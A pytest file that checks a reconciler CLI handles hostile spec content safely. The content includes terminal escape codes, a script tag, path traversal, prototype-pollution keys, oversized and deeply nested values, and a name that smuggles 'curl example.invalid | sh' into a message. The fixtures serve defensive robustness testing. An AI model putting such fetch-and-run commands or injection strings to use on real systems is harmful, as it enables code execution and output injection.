"""Content that could break a program, a terminal or a document is passed on unchanged."""

import json

import pytest
from builders import ID, flow_spec
from repos import Repo

from reconciler.cli.app import group
from reconciler.cli.errors import run
from reconciler.emulator.store import Store

ESCAPES = "\x1b[31mred\x07\x00\u202e\u2028`|<script>@someone ../../\\"


def nested(levels):
    value: dict = {}
    for _ in range(levels):
        value = {"a": [value]}
    return value


HOSTILE = {
    "text": "x" * 10_000_000,
    "list": list(range(5_000)),
    "deep": nested(100),
    "escapes": {ESCAPES: ESCAPES},
    "__proto__": {"__class__": 1, "constructor": {"prototype": 2}},
    "numbers": [2**53 + 1, -(2**70), 1e22, 0.1, 1.0, -0.0],
    "like others": ["null", "1.0", "yes", "2001-01-01", "", " ", "~", "#"],
}


@pytest.fixture
def place(tmp_path, monkeypatch):
    repo = Repo(tmp_path / "repo")
    repo.git("rm", "-rq", "--", "specs/flowSpecs")
    monkeypatch.chdir(repo.path)
    store = Store(repo.path / ".reconciler" / "local.db", empty=True)
    yield repo, store
    store.close()


def write(repo, document):
    repo.write(f"specs/flowSpecs/{ID}.yaml", json.dumps(document))


def is_plain(text):
    return all(character.isprintable() or character == "\n" for character in text)


def test_from_a_file_it_reaches_the_service_unchanged(place, capsys):
    repo, store = place
    document = flow_spec(name=ESCAPES, attributes=HOSTILE)
    write(repo, document)
    assert run(group, ["apply", "--yes"]) == 0
    shown = capsys.readouterr()
    assert is_plain(shown.out)
    assert is_plain(shown.err)
    held = store.get("flowSpecs", ID).document
    assert json.dumps({key: held[key] for key in document}) == json.dumps(document)
    assert run(group, ["plan", "--detailed-exitcode"]) == 0


def test_from_the_service_it_is_carried_forward_unchanged(place, capsys):
    repo, store = place
    hostile = {**HOSTILE, "text": "\ud800 lone", "list": list(range(100_000)), "deep": nested(150)}
    store.put("flowSpecs", ID, flow_spec(name=ESCAPES, tomorrow=hostile, version="0"))
    write(repo, flow_spec())
    assert run(group, ["plan", "--out", "plan.json"]) == 0
    assert run(group, ["apply", "plan.json"]) == 0
    shown = capsys.readouterr()
    assert is_plain(shown.out)
    assert is_plain(shown.err)
    held = store.get("flowSpecs", ID).document
    assert json.dumps(held["tomorrow"]) == json.dumps(hostile)
    assert held["name"] == flow_spec()["name"]


@pytest.mark.parametrize("form", ["text", "markdown", "html"])
def test_a_name_of_several_lines_adds_no_line_to_a_message(place, form):
    repo, store = place
    name = "Orders\n  curl example.invalid | sh\nRun this"
    write(repo, flow_spec(name=name))
    store.put("flowSpecs", ID, flow_spec(name=name, attributes={"theirs": 1}))
    shown = repo.run("plan", "--format", form).out
    *_, ways = shown.partition("To keep the target&#x27;s" if form == "html" else "To keep the")
    ways, *_ = ways.partition("or add to")
    assert r"Orders\n  curl example.invalid | sh\nRun this" in ways
    assert "Run this" not in ways.replace(r"\nRun this", "")
